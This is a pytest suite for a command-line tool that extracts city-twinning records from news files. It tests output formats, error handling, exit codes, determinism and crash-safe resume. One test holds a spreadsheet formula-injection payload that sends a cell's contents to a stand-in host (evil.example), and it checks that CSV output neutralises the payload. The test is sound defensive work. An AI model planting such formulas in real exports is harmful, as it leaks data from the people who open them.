"""``twin-extract run``: output formats, errors, exit codes, determinism and crash-safe resume.

The tests use a fake extractor (a record for every line saying "X twinned with Y") injected
through a picklable factory, so they do not depend on the real pipeline; two ``slow`` tests run
the real one on ``corpus/``.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, Iterator

import pytest

from twin_extract import batch, work
from twin_extract.batch import BatchOptions, run_batch
from twin_extract.record import NewsItem, Party, Evidence, TwinningRecord, record_id

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parent
PAIR = re.compile(r"(\w+) twinned with (\w+)")
REVIEW_EXTRA_MODULES = {"starlette", "uvicorn", "jinja2", "multipart", "itsdangerous"}
"""Top-level modules of the optional [review] extra; only their absence may skip a CLI test."""


class FakeExtractor:
    """One ``established`` record per "A twinned with B" in a line."""

    def __init__(self, delay: float = 0.0, fail_marker: str | None = None) -> None:
        self.delay = delay
        self.fail_marker = fail_marker

    def pipe(self, items: Iterable[NewsItem]) -> Iterator[tuple[NewsItem, list[TwinningRecord]]]:
        for item in items:
            if self.fail_marker and self.fail_marker in item.text:
                raise ValueError("boom")
            if self.delay:
                time.sleep(self.delay)
            yield item, fake_records(item)


def fake_records(item: NewsItem) -> list[TwinningRecord]:
    records = []
    for match in PAIR.finditer(item.text):
        parties = [_party(match, 1), _party(match, 2)]
        records.append(TwinningRecord(
            id=record_id(item.id, [p.key for p in parties]), source=item.source(),
            relation="twinning", status="established", parties=parties, date=None,
            evidence=[Evidence(match.group(0), match.start(), match.end())], confidence=0.5,
            rules=["fake"],
        ))
    return records


def _party(match: re.Match[str], group: int) -> Party:
    return Party(text=match.group(group), name=match.group(group), type="city", country=None,
                 country_name=None, subdivision=None, geonames_id=None,
                 start=match.start(group), end=match.end(group))


@dataclass(frozen=True)
class FakeFactory:
    """Picklable, so spawned pool workers can build their own fake."""

    delay: float = 0.0
    fail_marker: str | None = None

    def __call__(self) -> FakeExtractor:
        return FakeExtractor(self.delay, self.fail_marker)


@dataclass(frozen=True)
class BrokenFactory:
    def __call__(self) -> FakeExtractor:
        raise OSError("no such model")


@dataclass(frozen=True)
class InjectionFactory:
    """One record per document whose evidence is the whole text and whose parties are formulas."""

    def __call__(self) -> "InjectionExtractor":
        return InjectionExtractor()


class InjectionExtractor:
    def pipe(self, items: Iterable[NewsItem]) -> Iterator[tuple[NewsItem, list[TwinningRecord]]]:
        for item in items:
            text = item.text.strip()
            parties = [Party(text=name, name=name, type="city", country=None, country_name=None,
                             subdivision=None, geonames_id=geonames_id, start=0, end=len(name))
                       for name, geonames_id in (("@SUM(A1:A9)", 703448), ("-2+3", None))]
            yield item, [TwinningRecord(
                id=record_id(item.id, [p.key for p in parties]), source=item.source(),
                relation="twinning", status="established", parties=parties, date=None,
                evidence=[Evidence(text, 0, len(text))], confidence=0.5, rules=["+rule"],
            )]


def make_corpus(root: Path, n: int = 40, seed: int = 7) -> Path:
    """Text files, a JSON Lines file and a gzip file, a few with twinning sentences."""
    rng = random.Random(seed)
    cities = ["Lviv", "Krakow", "Bucha", "Bergamo", "Rivne", "Poprad", "Irpin", "Miami"]
    corpus = root / "corpus"
    (corpus / "sub").mkdir(parents=True)
    lines = []
    for i in range(n):
        a, b = rng.sample(cities, 2)
        text = f"Story {i}. The council met.\n" + (f"{a} twinned with {b} today.\n" if i % 3 == 0 else "")
        if i % 4 == 0:
            lines.append(json.dumps({"id": f"j{i}", "text": text, "published": "2022-05-01"}))
        else:
            (corpus / ("sub" if i % 2 else "") / f"doc{i:03d}.txt").write_text(text, encoding="utf-8")
    (corpus / "news.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    with gzip.open(corpus / "more.txt.gz", "wt", encoding="utf-8") as handle:
        handle.write("Gdynia twinned with Zhytomyr. Pardubice too.\n")
    return corpus


def options(paths: list[Path | str], out: Path | str, **kw: object) -> BatchOptions:
    base = dict(quiet=True, progress=False, chunk_docs=4, commit_docs=2)
    base.update(kw)
    return BatchOptions(paths=[str(p) for p in paths], output=str(out), **base)  # type: ignore[arg-type]


def run(paths: list[Path | str], out: Path | str, factory: object = None, **kw: object
        ) -> tuple[int, str]:
    stderr = io.StringIO()
    code = run_batch(options(paths, out, **kw), factory=factory or FakeFactory(), stderr=stderr)
    return code, stderr.getvalue()


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture()
def corpus(tmp_path: Path) -> Path:
    return make_corpus(tmp_path)


def test_jsonl_output_has_valid_records_in_input_order(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "records.jsonl"
    code, _ = run([corpus], out)
    assert code == 0
    records = read_jsonl(out)
    assert len(records) == 15  # 14 stories with a pair + the gzip file
    assert [r["source"]["id"] for r in records][:2] == ["doc006.txt", "doc018.txt"]
    assert records[-1]["source"]["id"].startswith("sub/")
    assert any(r["source"]["id"] == "more.txt.gz" for r in records)
    jsonl = [r for r in records if r["source"]["id"].startswith("j")]
    assert jsonl and all(r["source"]["published"] == "2022-05-01" for r in jsonl)
    assert (tmp_path / "out" / "errors.jsonl").read_text() == ""


def test_records_validate_against_schema(corpus: Path, tmp_path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    from twin_extract.record import load_schema

    out = tmp_path / "records.jsonl"
    run([corpus], out)
    records = read_jsonl(out)
    assert records
    for record in records:
        jsonschema.validate(record, load_schema())


def test_explain_adds_rules(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out, explain=True)
    assert all(r["explain"] == {"rules": ["fake"]} for r in read_jsonl(out))


def test_csv_output_one_row_per_record(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.csv"
    code, _ = run([corpus], out, fmt="csv")
    assert code == 0
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 15
    first = rows[0]
    assert list(first)[:3] == ["id", "a_text", "a_name"]
    assert {"b_geonames_id", "date_value", "status", "source_published", "evidence"} <= set(first)
    assert first["status"] == "established" and first["confidence"] == "0.5"
    assert " twinned with " in first["evidence"]
    assert first["a_name"] + " twinned with " + first["b_name"] in first["evidence"]


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("column", "expected"), [
    ("evidence", f"'{HYPERLINK} twinned"),
    ("a_name", "'@SUM(A1:A9)"),
    ("a_text", "'@SUM(A1:A9)"),
    ("b_name", "'-2+3"),
    ("rules", "'+rule"),
    ("a_geonames_id", "703448"),
    ("confidence", "0.5"),
])
def test_csv_cells_cannot_become_formulas(tmp_path: Path, column: str, expected: str) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "evil.txt").write_text(f"{HYPERLINK} twinned\n", encoding="utf-8")
    out = tmp_path / "records.csv"
    assert run([tmp_path / "in"], out, factory=InjectionFactory(), fmt="csv", explain=True)[0] == 0
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1 and rows[0][column] == expected


def test_stdout_output(corpus: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    code, _ = run([corpus / "news.jsonl"], "-")
    assert code == 0
    lines = capsysbinary.readouterr().out.decode().splitlines()
    assert len(lines) == 4 and all(json.loads(line)["source"]["id"].startswith("j") for line in lines)
    assert not (tmp_path / "errors.jsonl").exists()


def test_summary_on_stderr_unless_quiet(corpus: Path, tmp_path: Path) -> None:
    code, err = run([corpus], tmp_path / "a.jsonl", quiet=False)
    assert code == 0
    assert "41 documents read" in err and "15 records written" in err
    assert "0 documents failed" in err and "documents/s" in err
    _, err = run([corpus], tmp_path / "b.jsonl", quiet=True)
    assert err == ""


def test_bad_inputs_reported_and_the_rest_goes_on(tmp_path: Path) -> None:
    corpus = tmp_path / "in"
    corpus.mkdir()
    (corpus / "a.txt").write_text("Lviv twinned with Krakow.", encoding="utf-8")
    (corpus / "b.txt").write_bytes(b"\x89PNG\x00\x00binary")
    (corpus / "c.txt").write_bytes(b"")
    (corpus / "d.jsonl").write_text('{"text": "Rivne twinned with Poprad."}\n{"text": \n'
                                    '{"title": "x"}\n{"text": 5}\n{"text": "Irpin twinned with Miami."}\n',
                                    encoding="utf-8")
    (corpus / "e.txt.gz").write_bytes(b"not gzip at all")
    (corpus / "f.jpg").write_bytes(b"\xff\xd8")
    out = tmp_path / "out" / "records.jsonl"
    code, err = run([corpus], out, quiet=False)
    assert code == 1
    assert [r["parties"][0]["name"] for r in read_jsonl(out)] == ["Lviv", "Rivne", "Irpin"]
    errors = read_jsonl(tmp_path / "out" / "errors.jsonl")
    assert [(Path(e["path"]).name, e["line"]) for e in errors] == [
        ("b.txt", None), ("c.txt", None), ("d.jsonl", 2), ("d.jsonl", 3), ("d.jsonl", 4),
        ("e.txt.gz", None)]
    assert "binary" in errors[0]["error"] and "empty" in errors[1]["error"]
    assert "invalid JSON" in errors[2]["error"] and "missing" in errors[3]["error"]
    assert "string" in errors[4]["error"] and "gzip" in errors[5]["error"]
    assert "6 documents failed" in err and str(tmp_path / "out" / "errors.jsonl") in err
    assert err.count("error: ") == 6
    assert "f.jpg" not in err


def test_verbose_lists_ignored_files(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text("Hello.", encoding="utf-8")
    (tmp_path / "in" / "photo.jpg").write_bytes(b"\xff\xd8")
    _, err = run([tmp_path / "in"], tmp_path / "o.jsonl", verbose=True)
    assert "ignored" in err and "photo.jpg" in err


def test_extraction_failure_isolated_to_its_document(corpus: Path, tmp_path: Path) -> None:
    (corpus / "sub" / "doc001.txt").write_text("POISON Lviv twinned with Bucha.", encoding="utf-8")
    out = tmp_path / "records.jsonl"
    code, err = run([corpus], out, factory=FakeFactory(fail_marker="POISON"))
    assert code == 1
    assert "doc001.txt" in err and "extraction failed" in err
    assert len(read_jsonl(out)) == 15
    errors = read_jsonl(tmp_path / "errors.jsonl")
    assert len(errors) == 1 and errors[0]["path"].endswith("doc001.txt")


def test_output_excluded_from_its_own_input_folder(corpus: Path) -> None:
    out = corpus / "records.jsonl"
    assert run([corpus], out)[0] == 0
    first = out.read_bytes()
    assert run([corpus], out)[0] == 0  # resumes: everything done, nothing re-read from out
    assert out.read_bytes() == first


@pytest.mark.parametrize("workers", [2])
def test_same_bytes_whatever_workers(corpus: Path, tmp_path: Path, workers: int) -> None:
    one, many = tmp_path / "one.jsonl", tmp_path / "many.jsonl"
    assert run([corpus], one, workers=1)[0] == 0
    assert run([corpus], many, workers=workers)[0] == 0
    assert one.read_bytes() == many.read_bytes()
    csv_one, csv_many = tmp_path / "one.csv", tmp_path / "many.csv"
    run([corpus], csv_one, workers=1, fmt="csv")
    run([corpus], csv_many, workers=workers, fmt="csv")
    assert csv_one.read_bytes() == csv_many.read_bytes()


def test_pool_reports_bad_documents_like_one_worker(corpus: Path, tmp_path: Path) -> None:
    (corpus / "sub" / "doc001.txt").write_text("POISON", encoding="utf-8")
    (corpus / "zz.txt").write_bytes(b"")
    factory = FakeFactory(fail_marker="POISON")
    one, many = tmp_path / "a" / "one.jsonl", tmp_path / "b" / "many.jsonl"
    assert run([corpus], one, factory=factory, workers=1)[0] == 1
    assert run([corpus], many, factory=factory, workers=2)[0] == 1
    assert one.read_bytes() == many.read_bytes()
    assert (tmp_path / "a" / "errors.jsonl").read_text() == (tmp_path / "b" / "errors.jsonl").read_text()


def test_pipeline_that_cannot_be_built_is_reported(corpus: Path, tmp_path: Path) -> None:
    for workers in (1, 2):
        code, err = run([corpus], tmp_path / f"o{workers}.jsonl", factory=BrokenFactory(),
                        workers=workers)
        assert code == 2 and "no such model" in err


# ---------------------------------------------------------------- usage errors and exit codes


def parse(argv: list[str]) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="twin-extract run")
    batch.add_arguments(parser)
    return parser.parse_args(argv)


def test_usage_errors_exit_2(corpus: Path, tmp_path: Path) -> None:
    with pytest.raises(SystemExit) as exit_info:
        parse([str(corpus), "-o", "x.jsonl", "--bogus"])
    assert exit_info.value.code == 2
    with pytest.raises(SystemExit) as exit_info:
        parse([str(corpus), "-o", "x.jsonl", "--workers", "0"])
    assert exit_info.value.code == 2
    with pytest.raises(SystemExit) as exit_info:
        parse([str(corpus)])
    assert exit_info.value.code == 2
    code, err = run([tmp_path / "missing"], tmp_path / "o.jsonl")
    assert code == 2 and "no such file" in err
    assert not (tmp_path / "o.jsonl").exists()


def test_command_line_defaults() -> None:
    args = parse(["corpus", "-o", "out.jsonl"])
    assert args.workers == (os.cpu_count() or 1) and args.fmt == "jsonl" and not args.force


def test_cli_module_exit_codes(corpus: Path, tmp_path: Path) -> None:
    """The real entry point: unknown option and missing path are usage errors."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    for argv in (["run", str(corpus), "-o", str(tmp_path / "x.jsonl"), "--nope"],
                 ["run", str(tmp_path / "missing"), "-o", str(tmp_path / "x.jsonl")]):
        done = subprocess.run([sys.executable, "-m", "twin_extract", *argv], env=env,
                              capture_output=True, text=True, timeout=120)
        missing = re.search(r"No module named '(\w+)'", done.stderr)
        if missing and missing.group(1) in REVIEW_EXTRA_MODULES:
            pytest.skip(f"the [review] extra is not installed ({missing.group(1)})")
        assert done.returncode == 2, done.stderr


def test_refuses_to_overwrite_foreign_output(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    out.write_text("precious\n", encoding="utf-8")
    code, err = run([corpus], out)
    assert code == 2 and "--force" in err
    assert out.read_text(encoding="utf-8") == "precious\n"
    code, _ = run([corpus], out, force=True)
    assert code == 0 and len(read_jsonl(out)) == 15


def test_refuses_to_resume_with_other_settings(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    code, err = run([corpus], out, explain=True)
    assert code == 2 and "explain" in err


def test_force_starts_over(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    (corpus / "new.txt").write_text("Metz twinned with Chernivtsi.", encoding="utf-8")
    code, _ = run([corpus], out, force=True)
    assert code == 0 and len(read_jsonl(out)) == 16


# ---------------------------------------------------------------- crash-safe resume


def clean_run(corpus: Path, tmp_path: Path, **kw: object) -> bytes:
    out = tmp_path / "clean" / "records.out"
    assert run([corpus], out, **kw)[0] == 0
    return out.read_bytes()


def state_lines(out: Path) -> list[str]:
    return (Path(str(out) + ".state.jsonl")).read_text(encoding="utf-8").splitlines(keepends=True)


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_resume_after_simulated_crash(corpus: Path, tmp_path: Path, fmt: str) -> None:
    expected = clean_run(corpus, tmp_path, fmt=fmt)
    out = tmp_path / "records.out"
    run([corpus], out, fmt=fmt)
    lines = state_lines(out)
    done = json.loads(lines[len(lines) // 2])
    # the crash: records of later documents written but not committed, a torn last line
    # in both files
    state = Path(str(out) + ".state.jsonl")
    state.write_text("".join(lines[: len(lines) // 2 + 1]) + '{"id": "doc0', encoding="utf-8")
    data = out.read_bytes()
    assert done["end"] < len(data) - 10
    out.write_bytes(data[: len(data) - 10])
    code, err = run([corpus], out, fmt=fmt, quiet=False)
    assert code == 0 and "already done" in err
    assert out.read_bytes() == expected
    assert all(line.endswith("\n") for line in state_lines(out))


def test_resume_skips_done_documents(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    code, err = run([corpus], out, factory=FakeFactory(fail_marker="Story"), quiet=False)
    assert code == 0  # the failing extractor was never called: all 41 documents were done
    assert "41 documents read (41 already done, skipped)" in err


def test_resume_processes_changed_documents(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    (corpus / "sub" / "doc001.txt").write_text("Story 1 revised: Metz twinned with Chernivtsi.", encoding="utf-8")
    code, err = run([corpus], out, quiet=False)
    assert code == 0 and "1 documents changed" in err
    records = read_jsonl(out)
    assert len(records) == 16 and records[-1]["source"]["id"] == "sub/doc001.txt"


def test_resume_when_only_the_header_was_written(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.csv"
    expected = clean_run(corpus, tmp_path, fmt="csv")
    run([corpus], out, fmt="csv")
    state = Path(str(out) + ".state.jsonl")
    state.write_text(state_lines(out)[0], encoding="utf-8")
    out.write_bytes(out.read_bytes()[:5])
    assert run([corpus], out, fmt="csv")[0] == 0
    assert out.read_bytes() == expected


def test_resume_refuses_a_corrupt_state(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    lines = state_lines(out)
    Path(str(out) + ".state.jsonl").write_text(lines[0] + "garbage\n" + "".join(lines[1:]))
    code, err = run([corpus], out)
    assert code == 2 and "corrupt" in err


KILL_SCRIPT = """
import sys
sys.path[:0] = [{tests!r}, {src!r}]
from test_batch import FakeFactory, options
from twin_extract.batch import run_batch
run_batch(options([{corpus!r}], {out!r}, workers={workers}, commit_docs=1, commit_seconds=0.0),
          factory=FakeFactory(delay=0.01))
"""


@pytest.mark.parametrize("workers,wait", [(1, 0.05), (1, 0.15), (2, 0.1)])
def test_resume_after_kill_9(tmp_path: Path, workers: int, wait: float) -> None:
    """A real ``kill -9`` in the middle of a run; the resumed output equals a clean run."""
    corpus = make_corpus(tmp_path, n=150)
    expected = clean_run(corpus, tmp_path)
    out = tmp_path / "records.jsonl"
    script = KILL_SCRIPT.format(tests=str(TESTS), src=str(ROOT / "src"), corpus=str(corpus),
                                out=str(out), workers=workers)
    proc = subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and (not out.exists() or out.stat().st_size == 0):
            assert proc.poll() is None, "the run ended before it could be killed"
            time.sleep(0.005)
        time.sleep(wait)
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    partial = out.read_bytes()
    assert 0 < len(partial) < len(expected), "killed too late to test anything"
    code, err = run([corpus], out, quiet=False)
    assert code == 0, err
    assert out.read_bytes() == expected


# ---------------------------------------------------------------- the real pipeline


@pytest.mark.slow
def test_real_pipeline_on_corpus(tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    stderr = io.StringIO()
    news = [ROOT / "corpus" / "source-article.txt", ROOT / "corpus" / "gold"]
    code = run_batch(options(news, out, workers=1), stderr=stderr)
    assert code == 0, stderr.getvalue()
    records = read_jsonl(out)
    assert len(records) >= 18
    assert all(r["source"]["id"] and r["source"]["path"] for r in records)


@pytest.mark.slow
def test_real_pipeline_same_bytes_with_two_workers(tmp_path: Path) -> None:
    one, two = tmp_path / "one.jsonl", tmp_path / "two.jsonl"
    items = tmp_path / "news.jsonl"
    text = (ROOT / "corpus" / "source-article.txt").read_text(encoding="utf-8")
    items.write_text("".join(json.dumps({"id": f"n{i}", "text": text}) + "\n" for i in range(6)),
                     encoding="utf-8")
    assert run_batch(options([items], one, workers=1)) == 0
    assert run_batch(options([items], two, workers=2)) == 0
    assert one.read_bytes() == two.read_bytes() and one.stat().st_size > 0


def test_stdin_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    data = b'{"id": "s1", "text": "Lviv twinned with Krakow."}\n{"text": 3}\n'
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    out = tmp_path / "records.jsonl"
    code, err = run(["-"], out)
    assert code == 1 and "<stdin>:2" in err
    [record] = read_jsonl(out)
    assert record["source"]["id"] == "s1" and record["source"]["path"] is None


def test_small_input_runs_in_process_whatever_workers(tmp_path: Path) -> None:
    """One chunk of input: no pool is started (a lambda could not even be sent to one)."""
    (tmp_path / "a.txt").write_text("Lviv twinned with Krakow.", encoding="utf-8")
    out = tmp_path / "records.jsonl"
    code, _ = run([tmp_path / "a.txt"], out, factory=lambda: FakeExtractor(), workers=2)
    assert code == 0 and len(read_jsonl(out)) == 1


def test_no_pipeline_is_built_when_nothing_is_left_to_do(corpus: Path, tmp_path: Path) -> None:
    out = tmp_path / "records.jsonl"
    run([corpus], out)
    assert run([corpus], out, factory=BrokenFactory())[0] == 0


def test_a_document_over_max_doc_chars_runs_alone_and_is_counted(tmp_path: Path) -> None:
    news = tmp_path / "news"
    news.mkdir()
    (news / "a.txt").write_text("Lviv twinned with Lublin.", encoding="utf-8")
    (news / "b.txt").write_text("Kyiv twinned with Krakow. " + "Ordinary council news. " * 100, encoding="utf-8")
    (news / "c.txt").write_text("Odesa twinned with Genoa.", encoding="utf-8")
    items = [NewsItem(text=p.read_text(), id=p.name) for p in sorted(news.iterdir())]
    assert [[e.id for e in c] for c in work.chunked(items, max_docs=32, max_chars=1000)] == \
        [["a.txt"], ["b.txt"], ["c.txt"]]
    stderr = io.StringIO()
    code = run_batch(options([news], tmp_path / "out.jsonl", quiet=False, max_doc_chars=1000),
                     factory=FakeFactory(), stderr=stderr)
    assert code == 0 and "1 documents longer than --max-doc-chars" in stderr.getvalue()
    assert len(read_jsonl(tmp_path / "out.jsonl")) == 3


def test_max_memory_below_a_workable_share_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Lviv twinned with Lublin.", encoding="utf-8")
    code, err = run([tmp_path / "a.txt"], tmp_path / "out.jsonl", workers=2, max_memory_mb=1500, quiet=False)
    assert code == 2 and "--max-memory" in err
